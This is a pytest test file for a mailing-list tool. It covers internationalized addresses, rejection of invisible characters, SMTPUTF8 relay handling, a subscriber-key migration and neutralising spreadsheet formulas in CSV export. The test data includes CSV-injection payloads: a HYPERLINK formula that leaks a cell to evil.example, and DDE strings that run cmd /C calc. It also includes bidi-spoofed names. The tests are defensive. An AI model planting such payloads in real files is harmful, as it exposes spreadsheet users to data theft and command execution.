"""Addresses as one mailbox: every spelling of an internationalized domain
is one subscriber (also through an import, also for a suppression),
invisible characters are refused with the CSV line named, the domain goes
out as an A-label, and a UTF-8 local part meets a relay without SMTPUTF8
as a clear failure that is not a bounce (aiosmtpd with and without
SMTPUTF8 in its EHLO)."""
import shutil
import sqlite3
import subprocess

import pytest

from conftest import MATRIXCTL, SEED, Env, q, schema_back_to
from smtpd import PASSWORD, USER, Server

SPELLINGS = ["u@bücher.de", "u@BÜCHER.de", "u@xn--bcher-kva.de", "u@bu\u0308cher.de"]


def write(path, text):
    path.write_bytes(text.encode() if isinstance(text, str) else text)
    return path


def test_every_spelling_is_one_subscriber(env):
    first = env.ctl_json("subscribe", SPELLINGS[0])
    assert first["result"] == "added"
    for a in SPELLINGS[1:]:
        r = env.ctl_json("subscribe", a)
        assert r["result"] == "unchanged", a
    rows = env.ctl_json("subscribers")
    assert [r["email"] for r in rows] == ["u@bücher.de"]  # the spelling first given
    for a in SPELLINGS:
        assert env.ctl_json("show", a)["email"] == "u@bücher.de", a
    # the local part is kept as given: another case is another mailbox
    assert env.ctl_json("subscribe", "U@bücher.de")["result"] == "added"


@pytest.mark.parametrize("addr,why", [
    ("u@\u200bexample.org", "U+200B ZERO WIDTH SPACE"),
    ("\ufeffa@example.com", "byte-order mark"),
    ("\u202egro.live@eve.example", "bidirectional control"),
    ("a\u00a0b@example.org", "space character"),
    ("u@exa\u00admple.org", "SOFT HYPHEN"),
])
def test_invisible_characters_refused(env, addr, why):
    p = env.ctl("subscribe", addr)
    assert p.returncode == 1, p.stdout
    assert why in p.stderr
    assert "\u200b" not in p.stderr and "\u202e" not in p.stderr  # shown as <U+…>
    assert env.ctl_json("subscribers") == []


def test_unsubscribed_reader_stays_out_through_an_import(env, tmp_path):
    env.ctl("subscribe", "u@bücher.de", check=0)
    env.ctl("unsubscribe", "u@bücher.de", check=0)
    csv = write(tmp_path / "in.csv", "email,name\r\nu@BÜCHER.de,U\r\nu@bu\u0308cher.de,U\r\n"
                "u@xn--bcher-kva.de,U\r\n")
    r = env.ctl_json("import", csv)
    assert (r["added"], r["skipped"], r["rejected"]) == (0, 3, 0)
    rows = env.ctl_json("subscribers")
    assert [(x["email"], x["status"]) for x in rows] == [("u@bücher.de", "unsubscribed")]


def test_bom_at_the_start_of_a_data_row(env, tmp_path):
    # A BOM opening the file is allowed; one opening a data row (two files
    # pasted together) is an invisible character in the address.
    csv = write(tmp_path / "in.csv", "\ufeffemail,name\r\na@example.com,A\r\n"
                "\ufeffa@example.com,A again\r\nb@example.com,B\r\n")
    p = env.ctl("import", csv)
    assert p.returncode == 1
    assert f"{csv}:3: invalid address '<U+FEFF>a@example.com'" in p.stderr
    assert "byte-order mark" in p.stderr
    assert sorted(r["email"] for r in env.ctl_json("subscribers")) == \
        ["a@example.com", "b@example.com"]


# ---- on the wire -------------------------------------------------------------


def smtp_env(tmp, srv):
    env = Env(tmp)
    pw = env.tmp / "smtp-password"
    pw.write_text(PASSWORD + "\n")
    pw.chmod(0o600)
    env.write_conf(smtp_url=f'"smtp://127.0.0.1:{srv.port}"', smtp_tls='"required"',
                   smtp_username=f'"{USER}"', smtp_password_file=f'"{pw}"',
                   smtp_ca_file=f'"{srv.ca}"', bounce_threshold="3")
    return env


@pytest.fixture(params=[False, True], ids=["no-smtputf8", "smtputf8"])
def relay(request, tmp_path):
    (tmp_path / "tls").mkdir()
    srv = Server(tmp_path / "tls", smtputf8=request.param).start()
    srv.smtputf8 = request.param
    yield srv
    srv.stop()


def test_idn_domain_and_utf8_local_part_on_the_wire(tmp_path, relay):
    env = smtp_env(tmp_path, relay)
    env.ctl("subscribe", "u@BÜCHER.de", check=0)
    env.ctl("subscribe", "用户@例子.中国", check=0)
    shutil.copy(SEED, env.tmp / "issues" / SEED.name)
    p = env.matrixd("--once")
    n = 15  # articles in the seed issue

    # The A-label in RCPT TO and To:, whatever the relay offers.
    got = relay.to("u@xn--bcher-kva.de")
    assert len(got) == n
    for r in got:
        assert r.rcpts == ["u@xn--bcher-kva.de"]
        assert r.message()["To"] == "u@xn--bcher-kva.de"
        assert not r.smtputf8  # an ASCII transaction

    wide = "用户@xn--fsqu00a.xn--fiqs8s"
    show = env.ctl_json("show", "用户@例子.中国")
    if relay.smtputf8:
        assert p.returncode == 0, p.stderr
        got = relay.to(wide)
        assert len(got) == n
        assert all(r.smtputf8 for r in got)
        assert got[0].message()["To"] == wide
        assert show["deliveries"]["sent"] == n
    else:
        # Nothing went out for it; every delivery failed with the reason,
        # and none counted as a bounce (threshold 3, 15 failures).
        assert relay.to(wide) == []
        assert show["deliveries"]["failed"] == n
        assert show["bounce_score"] == 0
        assert [m["status"] for m in show["memberships"]] == ["confirmed"]
        assert [e for e in show["events"] if e["kind"] == "bounce"] == []
        replies = q(env, "SELECT DISTINCT d.last_reply FROM deliveries d JOIN subscribers s"
                    " ON s.id = d.subscriber_id WHERE s.email = ?", "用户@例子.中国")
        assert len(replies) == 1 and "does not offer SMTPUTF8" in replies[0][0], replies
    # the ASCII reader was never held up by the other one
    assert env.ctl_json("show", "u@bücher.de")["deliveries"]["sent"] == n


def test_maildir_envelope_is_the_wire_form(env):
    """The Maildir transport shows what a reader's server would record: the
    envelope's A-label in Delivered-To, as RCPT TO has it, not the spelling
    the admin typed."""
    import email
    import email.policy
    env.ctl("subscribe", "u@BÜCHER.de", check=0)
    shutil.copy(SEED, env.tmp / "issues" / SEED.name)
    p = env.matrixd("--once")
    assert p.returncode == 0, p.stderr
    files = list((env.tmp / "maildir" / "new").iterdir())
    assert len(files) == 15
    for f in files:
        m = email.message_from_bytes(f.read_bytes(), policy=email.policy.strict)
        assert m["Delivered-To"] == "u@xn--bcher-kva.de"
        assert m["To"] == "u@xn--bcher-kva.de"


# ---- the key migration --------------------------------------------------------


def test_migration_rekeys_and_reports_conflicts(env):
    """A database of schema 2 with the old keys (domain ASCII-lowercased, UTF-8
    kept): the upgrade moves what it can, merges nothing, lists the rest."""
    env.ctl("lists", check=0)  # creates the database
    con = sqlite3.connect(str(env.db))
    schema_back_to(con, 2)
    con.executescript("DROP TABLE address_conflicts; PRAGMA user_version = 2;")
    old = [("u@bücher.de", "u@bücher.de", "confirmed"),
           ("u@BÜCHER.de", "u@bÜcher.de", "unsubscribed"),
           ("u@xn--bcher-kva.de", "u@xn--bcher-kva.de", "confirmed"),
           ("u@bu\u0308cher.de", "u@bu\u0308cher.de", "confirmed"),
           ("x@\u200bexample.org", "x@\u200bexample.org", "confirmed"),
           ("solo@例子.中国", "solo@例子.中国", "confirmed")]
    ids = []
    for email, key, status in old:
        cur = con.execute("INSERT INTO subscribers(email, email_key, created_at, updated_at)"
                          " VALUES (?, ?, 1, 1)", (email, key))
        ids.append(cur.lastrowid)
        con.execute("INSERT INTO memberships(list_id, subscriber_id, status, status_at,"
                    " created_at) VALUES (1, ?, ?, 1, 1)", (cur.lastrowid, status))
    con.commit()
    con.close()

    got = env.ctl_json("subscribers", "--conflicts")  # opens the store: migrates
    assert q(env, "PRAGMA user_version")[0][0] >= 3  # later versions migrate on
    assert q(env, "SELECT count(*) FROM subscribers")[0][0] == 6  # nothing merged
    by_id = {c["id"]: c for c in got}
    holder = ids[2]  # its old key was already the new one
    assert set(by_id) == {ids[0], ids[1], ids[3], ids[4]}
    for i in (0, 1, 3):
        c = by_id[ids[i]]
        assert c["key"] == "u@xn--bcher-kva.de" and c["held_by"] == holder
        assert f"the same mailbox as subscriber {holder}" in c["problem"]
    assert by_id[ids[4]]["key"] is None
    assert "no longer a valid address" in by_id[ids[4]]["problem"]
    assert "U+200B" in by_id[ids[4]]["problem"]
    # a key without a rival moved; the holder answers to every spelling
    assert env.ctl_json("show", "solo@xn--fsqu00a.xn--fiqs8s")["id"] == ids[5]
    assert env.ctl_json("show", "u@BÜCHER.de")["id"] == holder
    # the history of a record kept apart says so; it still gets mail
    kept = env.ctl_json("show", "--id", ids[1])
    assert [e["kind"] for e in kept["events"]] == ["address-conflict"]
    assert kept["memberships"][0]["status"] == "unsubscribed"
    assert "subscribers --conflicts" in env.ctl("subscribers").stderr
    assert "kept apart" in env.ctl("subscribers", "--conflicts").stdout
    # status, where an admin looks first, says so too
    assert any("subscribers --conflicts" in w for w in env.ctl_json("status")["warnings"])
    assert "subscribers --conflicts" in env.ctl("status").stdout

    # the admin drops the holder: the oldest record kept apart takes the key
    env.ctl("forget", "--id", holder, check=0)
    assert env.ctl_json("show", "u@bücher.de")["id"] == ids[0]
    assert {c["id"] for c in env.ctl_json("subscribers", "--conflicts")} == \
        {ids[1], ids[3], ids[4]}
    env.ctl("forget", "--id", ids[4], check=0)
    env.ctl("forget", "--id", ids[1], check=0)
    env.ctl("forget", "--id", ids[3], check=0)
    assert env.ctl_json("subscribers", "--conflicts") == []
    assert env.ctl("subscribers").stderr == ""
    assert env.ctl_json("status")["warnings"] == []
    p = env.ctl("forget", "--id", "99999")
    assert p.returncode == 1 and "no subscriber has id 99999" in p.stderr


# ---- CSV cells a spreadsheet would run -----------------------------------------

FORMULAS = ['=HYPERLINK("https://evil.example/?"&A1,"click")', "+1+cmd|' /C calc'!A0",
            "@SUM(1+1)*cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0"]


def export_bytes(env):
    p = subprocess.run([str(MATRIXCTL), "-c", str(env.conf), "export"], capture_output=True)
    assert p.returncode == 0, p.stderr
    return p.stdout


def cells(data):
    import csv
    import io
    return list(csv.reader(io.StringIO(data.decode(), newline="")))


def test_export_neutralises_formulas_and_import_takes_them_back(tmp_path):
    (tmp_path / "a").mkdir()
    (tmp_path / "b").mkdir()
    a = Env(tmp_path / "a")
    names = FORMULAS + ["'Tis", "''", "'=already quoted", "plain 名字"]
    for i, name in enumerate(names):
        a.ctl("subscribe", f"r{i}@example.org", "--name", name, check=0)
    addrs = ("=x@example.org", "-y@example.org", "+z@example.org", "'=q@example.org")
    for addr in addrs:
        a.ctl("subscribe", "--", addr, check=0)
    note = write(tmp_path / "note.csv", "email,note\r\nr0@example.org,\"=1+1\"\r\n"
                 "r1@example.org,\"\tTAB\"\r\nr2@example.org,\"\rCR\"\r\n")
    a.ctl("import", note, check=0)
    first = export_bytes(a)
    rows = cells(first)
    for row in rows[1:]:
        for cell in row:
            # OWASP: no cell a spreadsheet would evaluate
            assert not cell or cell[0] not in "=+-@\t\r", row
    assert ["'=x@example.org", "", "article", "confirmed", ""] in rows

    b = Env(tmp_path / "b")
    exported = write(tmp_path / "export.csv", first)
    r = b.ctl_json("import", exported)
    assert r["rejected"] == 0 and r["added"] == len(rows) - 1
    second = export_bytes(b)
    assert second == first  # export -> import -> export: the same bytes
    for i, name in enumerate(names):
        assert b.ctl_json("show", f"r{i}@example.org")["name"] == name
    for addr in addrs:
        assert b.ctl_json("show", "--", addr)["email"] == addr
    assert b.ctl_json("show", "r0@example.org")["attrs"] == {"note": "=1+1"}
    assert b.ctl_json("show", "r1@example.org")["attrs"] == {"note": "\tTAB"}
    assert b.ctl_json("show", "r2@example.org")["attrs"] == {"note": "\rCR"}


def test_bidi_controls_in_names_are_neutralised_where_shown(env):
    name = "\u202egro.live@eve \u2066x\u2069"
    env.ctl("subscribe", "r@example.org", "--name", name, check=0)
    for out in (env.ctl("subscribers", check=0).stdout, env.ctl("show", "r@example.org",
                                                                 check=0).stdout):
        assert "gro.live@eve x" in out
        for c in "\u202e\u2066\u2069":
            assert c not in out
    # the name itself is kept as given (JSON, export)
    assert env.ctl_json("show", "r@example.org")["name"] == name
    assert name in env.ctl("export", check=0).stdout


def test_bad_field_after_an_attribute(env, tmp_path):
    """A row rejected after an attribute column was read (found by
    fuzz_csv: the attributes leaked; the ASan build's leak check fails the
    run)."""
    csv = write(tmp_path / "in.csv", "email,city,mode\r\na@example.org,北京,weekly\r\n"
                "b@example.org,上海,digest\r\n")
    p = env.ctl("import", csv)
    assert p.returncode == 1, p.stderr
    assert f"{csv}:2: mode must be" in p.stderr
    assert [r["email"] for r in env.ctl_json("subscribers")] == ["b@example.org"]
